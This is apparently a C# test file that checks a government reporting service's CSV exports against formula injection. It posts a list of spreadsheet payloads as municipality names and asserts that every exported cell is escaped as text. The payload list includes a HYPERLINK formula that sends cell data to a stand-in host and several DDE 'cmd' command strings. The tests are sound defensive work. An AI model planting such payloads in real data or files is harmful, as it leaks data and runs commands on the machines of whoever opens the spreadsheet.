using System.Net;
using System.Net.Http.Json;
using System.Text;
using Kim.ServiceDefaults;

namespace Kim.ReportingService.FunctionalTests;

/// <summary>Formula injection (OWASP ASVS 1.2.10): no cell of a CSV export starts a formula, whatever a submission's free text says.</summary>
public sealed class CsvInjectionTests(StateReportingFixture state) : IClassFixture<StateReportingFixture>
{
    /// <summary>Cell contents a spreadsheet would evaluate: the attack run's and the same after leading white space.</summary>
    public static readonly string[] Payloads =
    [
        "=HYPERLINK(\"http://boese.example/?d=\"&A1,\"Details\")",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "  +1+1",
        "\u00a0-1+1",
        " \t@SUM(A1:A2)",
        "=1+1;=2+2",
    ];

    public static TheoryData<string> Each => [.. Payloads];

    [Theory]
    [MemberData(nameof(Each))]
    public void The_one_csv_writer_writes_every_payload_as_text(string payload)
    {
        var field = Csv.Field(payload);

        Assert.True(IsNeutral(Parse(field + "\r\n").Single().Single()), field);
        Assert.Equal(payload, Parse(field + "\r\n").Single().Single()[1..]);
    }

    [Fact]
    public void Ordinary_text_and_numbers_stay_as_they_are()
    {
        Assert.Equal("Kreis Mettmann", Csv.Field("Kreis Mettmann"));
        Assert.Equal("3,5", Csv.Field("3,5"));
        Assert.Equal("", Csv.Field(null));
        Assert.Equal("\"a;b\"", Csv.Field("a;b"));
        Assert.Equal("\"Sag \"\"ja\"\"\"", Csv.Field("Sag \"ja\""));
        Assert.Equal("x=1", Csv.Field("x=1"));
    }

    [Fact]
    public async Task No_cell_of_any_state_export_starts_a_formula()
    {
        for (var i = 0; i < Payloads.Length; i++)
        {
            var kind = i % 2 == 0 ? "District" : "IndependentCity";
            var submission = Submissions.Valid(kind == "District" ? Submissions.Districts[i] : Submissions.Cities[i], kind, "2025");
            submission["municipality"]!["name"] = Payloads[i];
            var response = await state.StateReporter().PostAsJsonAsync("/api/state/submissions", submission);
            Assert.True(response.StatusCode == HttpStatusCode.Created, await response.Content.ReadAsStringAsync());
        }

        var exports = new List<string>
        {
            "/api/state/typology.csv?period=2025",
            "/api/state/staffing.csv?period=2025",
            "/api/state/crosstab.csv?period=2025&row=municipality.name",
            "/api/state/crosstab.csv?period=2025&row=municipality.name&column=kind",
            "/api/state/crosstab.csv?period=2025&row=municipality.name&column=kind&where=caseManagement.forwardedToCarriers:No",
            "/api/state/crosstab.csv?period=2025&row=caseManagement.casesTaken&column=kind",
        };
        var names = new HashSet<string>(StringComparer.Ordinal);
        foreach (var export in exports)
        {
            var response = await state.StateReporter().GetAsync(export);
            Assert.True(response.StatusCode == HttpStatusCode.OK, $"{export}: {(int)response.StatusCode}");
            var cells = Parse(Encoding.UTF8.GetString(await response.Content.ReadAsByteArrayAsync()).TrimStart('\uFEFF')).SelectMany(row => row).ToList();
            Assert.NotEmpty(cells);
            Assert.All(cells, cell => Assert.True(IsNeutral(cell), $"{export}: {cell}"));
            names.UnionWith(cells.Where(c => c.StartsWith('\'')).Select(c => c[1..]));
        }

        // Every payload reached an export, as text.
        Assert.Subset(names, Payloads.ToHashSet());
    }

    /// <summary>What a spreadsheet would not evaluate: no formula character first, also not after white space.</summary>
    private static bool IsNeutral(string cell) =>
        cell.TrimStart() is not ['=' or '+' or '-' or '@', ..] && cell is not ['\t' or '\r' or '\n', ..];

    /// <summary>Semicolon CSV with quoted fields (RFC 4180 rules, CRLF between records).</summary>
    private static List<List<string>> Parse(string csv)
    {
        var rows = new List<List<string>>();
        var row = new List<string>();
        var field = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < csv.Length; i++)
        {
            var c = csv[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < csv.Length && csv[i + 1] == '"')
                {
                    field.Append('"');
                    i++;
                }
                else if (c == '"')
                {
                    quoted = false;
                }
                else
                {
                    field.Append(c);
                }
            }
            else if (c == '"')
            {
                quoted = true;
            }
            else if (c == ';')
            {
                row.Add(field.ToString());
                field.Clear();
            }
            else if (c == '\r' && i + 1 < csv.Length && csv[i + 1] == '\n')
            {
                row.Add(field.ToString());
                field.Clear();
                rows.Add(row);
                row = [];
                i++;
            }
            else
            {
                field.Append(c);
            }
        }

        Assert.False(quoted, "a quoted field is not closed");
        Assert.True(field.Length == 0 && row.Count == 0, "the last record ends with CRLF");
        return rows;
    }
}
